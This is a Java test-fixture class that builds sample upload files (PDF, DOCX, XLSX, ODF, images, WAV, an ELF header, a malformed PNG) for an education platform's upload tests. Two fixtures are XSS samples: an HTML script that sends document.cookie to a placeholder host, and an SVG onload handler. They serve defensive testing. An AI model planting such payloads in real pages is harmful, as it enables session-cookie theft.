package org.paralelo.media;

import java.awt.Color;
import java.awt.GradientPaint;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.paralelo.support.Pdfs;

/**
 * Real files for upload tests, built here byte by byte or with ImageIO, plus the sample course's PDF and DOCX.
 * Nothing is mocked: each fixture is a file the named program would open.
 */
final class MediaFixtures {

    private MediaFixtures() {
    }

    /** A PDF from the sample library (content-samples/), as trainers would upload it. */
    static byte[] samplePdf() {
        return read("content-samples/gestion-empresarial/media/plantilla-flujo-de-caja.pdf");
    }

    /** A DOCX from the sample library. */
    static byte[] sampleDocx() {
        return read("content-samples/gestion-empresarial/media/hoja-de-costos-y-precios.docx");
    }

    /** A minimal, valid one-page PDF written by hand, with a correct cross-reference table. */
    static byte[] tinyPdf() {
        return Pdfs.of("<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>");
    }

    static byte[] xlsx() {
        return ooxml("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">\
                <sheets/></workbook>""");
    }

    static byte[] pptx() {
        return ooxml("ppt/presentation.xml",
                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>""");
    }

    static byte[] docx() {
        return ooxml("word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">\
                <w:body><w:p><w:r><w:t>Hola</w:t></w:r></w:p></w:body></w:document>""");
    }

    static byte[] odt() {
        return odf("application/vnd.oasis.opendocument.text", "office:text");
    }

    static byte[] odp() {
        return odf("application/vnd.oasis.opendocument.presentation", "office:presentation");
    }

    /** A plain ZIP with a text file in it: the classic "renamed to .pdf" upload. */
    static byte[] zip() {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("notas.txt", "Presupuesto del festival\n");
        return zip(entries, null);
    }

    static byte[] html() {
        return """
                <!DOCTYPE html>
                <html><head><title>Factura</title></head>
                <body><script>document.location='https://example.invalid/?c='+document.cookie</script></body></html>
                """.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] svg() {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.cookie)">
                  <rect width="10" height="10" fill="red"/>
                </svg>
                """.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] text(String content) {
        return content.getBytes(StandardCharsets.UTF_8);
    }

    /** The start of a 64-bit Linux executable: ELF header of a position-independent executable. */
    static byte[] elf() {
        ByteBuffer header = ByteBuffer.allocate(256).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        header.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0});
        header.position(16);
        header.putShort((short) 3);     // e_type: ET_DYN
        header.putShort((short) 0x3e);  // e_machine: x86-64
        header.putInt(1);               // e_version
        return header.array();
    }

    /** One second of silence as 8 kHz, 8-bit mono WAV. */
    static byte[] wav() {
        int samples = 8000;
        ByteBuffer wav = ByteBuffer.allocate(44 + samples).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        wav.put("RIFF".getBytes(StandardCharsets.US_ASCII)).putInt(36 + samples)
                .put("WAVE".getBytes(StandardCharsets.US_ASCII))
                .put("fmt ".getBytes(StandardCharsets.US_ASCII)).putInt(16).putShort((short) 1).putShort((short) 1)
                .putInt(8000).putInt(8000).putShort((short) 1).putShort((short) 8)
                .put("data".getBytes(StandardCharsets.US_ASCII)).putInt(samples);
        for (int i = 0; i < samples; i++) {
            wav.put((byte) 128);
        }
        return wav.array();
    }

    static byte[] png(int width, int height) {
        return image(width, height, "png", BufferedImage.TYPE_INT_ARGB);
    }

    static byte[] jpeg(int width, int height) {
        return image(width, height, "jpeg", BufferedImage.TYPE_INT_RGB);
    }

    static byte[] gif(int width, int height) {
        return image(width, height, "gif", BufferedImage.TYPE_INT_RGB);
    }

    /** A 1×1 lossy WebP (ImageIO cannot write WebP; this is the well-known smallest valid file). */
    static byte[] webp() {
        return Base64.getDecoder().decode("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA");
    }

    /** A JPEG with an EXIF orientation tag, as phone cameras write them (6: turn 90° clockwise to display). */
    static byte[] jpegWithOrientation(int width, int height, int orientation) {
        byte[] jpeg = jpeg(width, height);
        ByteBuffer exif = ByteBuffer.allocate(2 + 2 + 6 + 8 + 2 + 12 + 4);
        exif.putShort((short) 0xFFE1).putShort((short) (exif.capacity() - 2));
        exif.put("Exif".getBytes(StandardCharsets.US_ASCII)).put((byte) 0).put((byte) 0);
        exif.put("MM".getBytes(StandardCharsets.US_ASCII)).putShort((short) 42).putInt(8); // big-endian TIFF
        exif.putShort((short) 1);                                       // one entry in IFD0
        exif.putShort((short) 0x0112).putShort((short) 3).putInt(1);    // Orientation, SHORT, count 1
        exif.putShort((short) orientation).putShort((short) 0);
        exif.putInt(0);                                                 // no next IFD
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(jpeg, 0, 2);                                          // SOI
        out.writeBytes(exif.array());
        out.write(jpeg, 2, jpeg.length - 2);
        return out.toByteArray();
    }

    /**
     * A PNG header declaring {@code width}×{@code height} with a bogus, tiny pixel stream: what a decompression
     * bomb or a damaged file looks like before decoding.
     */
    static byte[] pngDeclaring(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height)
                .put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(out, "IHDR", ihdr.array());
        chunk(out, "IDAT", "esto no es zlib".getBytes(StandardCharsets.US_ASCII));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    static BufferedImage decode(byte[] image) {
        try {
            return ImageIO.read(new java.io.ByteArrayInputStream(image));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(name);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private static byte[] image(int width, int height, String format, int type) {
        BufferedImage image = new BufferedImage(width, height, type);
        Graphics2D g = image.createGraphics();
        g.setPaint(new GradientPaint(0, 0, new Color(0xC0392B), width, height, new Color(0x2980B9)));
        g.fillRect(0, 0, width, height);
        g.setColor(Color.WHITE);
        g.fillOval(width / 4, height / 4, width / 2, height / 2);
        g.dispose();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("No ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** An Office Open XML package: content types, package relationships and the main part. */
    private static byte[] ooxml(String mainPart, String mainContentType, String mainXml) {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
                <Default Extension="xml" ContentType="application/xml"/>\
                <Override PartName="/%s" ContentType="%s"/></Types>""".formatted(mainPart, mainContentType));
        entries.put("_rels/.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                <Relationship Id="rId1" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
                Target="%s"/></Relationships>""".formatted(mainPart));
        entries.put(mainPart, mainXml);
        return zip(entries, null);
    }

    /** An OpenDocument package: an uncompressed "mimetype" entry first, then manifest and content. */
    private static byte[] odf(String mimeType, String bodyElement) {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("META-INF/manifest.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" \
                manifest:version="1.2">\
                <manifest:file-entry manifest:full-path="/" manifest:media-type="%s"/>\
                <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>\
                </manifest:manifest>""".formatted(mimeType));
        entries.put("content.xml", """
                <?xml version="1.0" encoding="UTF-8"?>
                <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" \
                office:version="1.2"><office:body><%s/></office:body></office:document-content>"""
                .formatted(bodyElement));
        return zip(entries, mimeType);
    }

    private static byte[] zip(Map<String, String> entries, String storedMimeType) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            if (storedMimeType != null) {
                byte[] data = storedMimeType.getBytes(StandardCharsets.US_ASCII);
                ZipEntry mimetype = new ZipEntry("mimetype");
                mimetype.setMethod(ZipEntry.STORED);
                mimetype.setSize(data.length);
                CRC32 crc = new CRC32();
                crc.update(data);
                mimetype.setCrc(crc.getValue());
                zip.putNextEntry(mimetype);
                zip.write(data);
                zip.closeEntry();
            }
            for (Map.Entry<String, String> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] read(String path) {
        try {
            return Files.readAllBytes(Path.of(path));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
